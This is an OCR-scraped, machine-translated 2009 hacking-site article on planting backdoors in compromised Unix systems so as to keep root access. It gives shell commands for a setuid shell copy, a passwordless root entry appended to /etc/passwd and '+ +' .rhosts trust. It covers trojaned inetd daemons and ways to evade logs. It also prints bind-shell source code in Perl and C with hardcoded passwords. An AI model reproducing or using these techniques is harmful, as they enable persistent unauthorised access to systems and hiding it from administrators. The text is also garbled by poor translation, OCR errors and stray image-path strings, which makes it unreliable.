*nux how to create a backdoor-a vulnerability warning-the black bar safety net

ID MYHACK58:62200924298
Type myhack58
Reporter 佚名
Modified 2009-08-15T00:00:00


Painstakingly(or ease of obtaining root after, Of course, want to long-term holding. To be later used to it. d0ing what u want t0 d0 :) the traditional method is to build a backdoor(backd00r). Even if the invasion is found, the better(advanced)back door still be able to make you again a relaxing break in -- Please remember: "we come back and we are the h. a. c. k. e. r" -- Create a back-door method is as follows: - 1. setuid

cp /bin/sh /tmp/. backdoor

chmod u+s /tmp/. backdoor

Add suid bit to the shell on, the most simple and convenient, but also the most easy to be ADM found find / -perm 4 0 0 0-print;at the same time in most of the SUNOS you will find can't setuid it.-- Suitable for the novice; and - 2. echo "zer9::0:0::/:/bin/csh" >> /etc/passwd, i.e. to the system to increase A The id is 0 for root)account, no password; also very easy to be found. - Suitable for the novice; and - 3. echo "+ zer9">>/. rhosts That is, the local named zer9 the user can directly rlogin target without a password at this time zer9 is equivalent to a password, do not know is not into it. The premise is the target of the port 512or513or514 opening. Note: If echo "+ +">>/. rhosts any user can rlogin to the target causes the target portal open, it is best not to; You can also echo "+ +">>/etc/hosts. equiv but this can not obtain root privileges; - for than the novice a little higher,than the intermediate level of the low a little guys; - 4. modify sendmail. cf add a"wiz" command; usage: telnet target 2 5 [enter] wiz[enter] This is me from the SAFEsuite learned but haven't tried; the more dangerous. Because almost all of the scanner will be spying on this vulnerability. But you can put the command itself, the other is not easy to guess name. More complex, dangerous, but ADM is not easy to find, hidden strong; you are only on your machine try it's okay;-- GUname think Italy, masters-level vulnerabilities; - 5. crack suck as inetd,login,... That installed their particular crowd version. You need to find the various versions of unix rootkits;and then were compiled; - if the target machine is not installed on the tripwire like the stuff, that hardly can be found. linux&sunos&freebsd may be good looking, but the other? Even if you find that you have the corresponding platform on the compiler? I have a computer running slackware,one running irix,one runningsunos,one running hpux,one running digits, unix,... hahhahha,I had that dream again.:) -- I personally think is the best method, but the implementation there is a certain risk you have to take into account if your Trojan error what to do-because everything we do must not damage the target machine on any data of the principle; - 6. ping rem0te backd00r Even if the firewall is also very little to prevent ICMP through, so the backdoor can bypass the firewall. Specific procedures you can be in the [THC] homepage found; I thought of another one direct use of the ping command is implemented by the firewall of the method: one in the firewall, one outside a firewall; in addition to the ICMP outside; leading to the firewall, all information is filtered away: (with a 60k data representative of length,10k data representative of the short; using a molar si coding; or other custom coding parties by ICMPinfo accept information ping 's datalength);“the Dee, the Dee,Dee,Dee,Dee Dee Dee...""the Yangtze River the Yangtze River, I was the Yellow River--- fire me up! Fire me”(^o^);after a time I will by the program toimplement verification of feasibility. (Technically there should be no difficulty - 7. rem0te shell I like most of the way. But due to bypassing the login,so use who can't see-that is, to avoid theutmp&utmpx&wtmp&wtmpx;but not completely avoid syslogd. ADM can still be in the/var/log/messages found You. However, there is a way you can thoroughly to completely bypass syslogd! And listen to the following one by one. bindshell to achieve in two ways: a. Replace inetd. conf not important services such as rlogind :)in inetd to accept the connect request,directly in the port use system("/bin/csh-i");direct spam out of a shell, b. Accept connect, at the high end of the spam out of a shell; More security:) Below I give a perl implementation without a socket libary support(pass on sunos5. 5. 1&slackware 2.0.33&irix6. 4&hpux10. 2)and a gnuc the implementation of the test on slackware 2.0.33&irix6. 4) --- the perl version of the installation method:

No need to compile it!!!! As long as the target machine has perl support is okay!

How to determine whether the perl: $/>perl [enter]

[ctrl-c] $/> - If you're on the /etc/inetd. conf the content is not very Mature,the following The method has the very big risk, exit(-1) please; - First, the source program is cut, the stored as you want to replace the daemon,such as in. rexecd or or in. rlogind ,in. pop2d.... It is best to already be ADM off, but not too noticeable daemon,note that it have to be TCP types. Then mv /usr/sbin/in. rexecd /usr/sbin/in. rexecd. bak :)) cp in. rexecd /usr/sbin/in. rexecd Then ps-aux|grep inetd;kill-HUP id(by inetd); okay! Even the /etc/inetd. conf do not change. To reiterate the point: regardless of in any case, we all want to make thegreatest possible protection of the data! - Usage: nc target (such as 5 1 2) [enter] ur passwd [enter] (then u login in...:)

---- Cut Here---

!/ usr/bin/perl



rem0te bind shell

[perl version only tcp]passed on allmost unix

greet tvan Hauser/[THC]

for his daemonshell.pl


d3f4ult p4sswd 1s "wh04r3u" (no quote);


if ($PASSWORD) { chop($pass=); if (crypt($pass, $PASSWORD) ne $PASSWORD) { exit 0; } exec $SHELL ; exit 0; }

---- Cut Here---

The following is a for gnuc to the bindshell,first cut it,save as backdoor. c ,then ccbackdoor. c-o backdoor other action just l1ke before; Usage: (exp:binding to in. rlogind (5 1 3)) nc target 5 1 3 //spam a shell on the high port; nc target 5 4 3 2 1 ur passwd (then u coming in...)

---- Cut Here---

/ * [b i n d - s h e l l ] * by * zer9[FTT] * zer9@21cn.com test on slackware 2.0.33&irix6. 4(cc) cc backdoor. c-o backdoor u c4n p01nt t0 wh1ch p0rt th3 sh3ll t0 sp4m c0mm4nd l1n3: backdoor [port] d3fault p0rt 1s: 5 4 3 2 1 greets to b4b0 forhis b4b0. c m4yb3 1 c0uld s4y: "0k,b4b0. l1st3n c4r3fully;" s0rry,just a joke. * */








define PassWord "k1n90fth3w0rld"

/ u c4n us3 crypt l1b4ry t0 sh4d0w 1t /

define DefaultPort 5 4 3 2 1/ d3f4ult b1nd1ng p0rt /

int main(int argc,char **argv) { int s,in_s; struct sockaddr_in server,client; int client_len,bindport; char recvbuf[1 0 0 0];

if(argc!= 2) bindport=DefaultPort; else bindport=atoi(argv[1]); if((s=socket(AF_INET,SOCK_STREAM,0))<0) { perror("socket"); return -1; } bzero((char )&server,sizeof(server)); bzero((char )&client,sizeof(client)); bzero(recvbuf,sizeof(recvbuf)); server. sin_family=AF_INET; server. sin_port=htons(bindport); server. sin_addr. server_address=INADDR_ANY; if(bind(s,(struct sockaddr )&server,sizeof(server))<0) { perror("bind"); return -1; } if(listen(s,3)!= 0) { perror("listen"); return -1; }client_len=sizeof(client); if((in_s=accept(s,(struct sockaddr )&client,&client_len))<0) { perror("accept"); return -1; } recv(in_s,recvbuf,sizeof(recvbuf),0); sleep(1); if((strlen(recvbuf)-1)==strlen(PassWord)) if(! strncmp(recvbuf,PassWord,strlen(PassWord))) { send(in_s,"0k4y! c0m1ng 1n...\n",2 5,0); close(0);close(1);close(2); dup2(in_s,0);dup2(in_s,1);dup2(in_s,2); execl("/bin/csh","/bin/csh",(char *)0); } close(s); close(in_s); return 0; }

---- Cut Here---

Using the above methods can not completely avoid the syslogd,because they are controlled by inetd start inetd to start them at the same time has to log out;bypass inetd will be able to completely avoid the syslog! The method is very simple, as long as directly in directly from the command line to start the routine 2(c)can, 1perl not are;however such a lot of trouble; once the ADM to turn off the computer play is over; the better the method is in the /etc/rc. d/the rc. local is added: virus & But even so, every time after also to restart once; a better approach is to write a fully functional(Backdoor capabilities^o^the daemon,completely solve this problem; but doing so with the hack inetd as a more efficient safe? -- 8. The eighth weapon is the crontab I only know the principle, not practice. Each to a certain time to be in the /etc/passwd adding a uid is 0 for root Of the user; time together will delete ,or create a suid's shell...in the mentioned in the preamble of the articles in detail; -- 9. There is no thought as to the system of a user sent an email,the OS will spam out a shell? Use the user's home directory . forward can be used up to this point. -- 1 to 0. Modify the kernel-the super master approach; 2.2. 0. unzip the file 5 0 several MB,see headache. Then jmp ffff0 :) (not see the content, but to see the size;[THC]recently a article about this. You have confidence in yourself, thenyou can look; -- 1 1. There is the use ofthe overflow program, although we generallyuse it to obtain root;but as long as the ADM &&u there is no patch ,is always that we can use it, and the suid is differentIs it not afraid to be find / -perm 4 0 0 0 found;generally only tripwire can be found.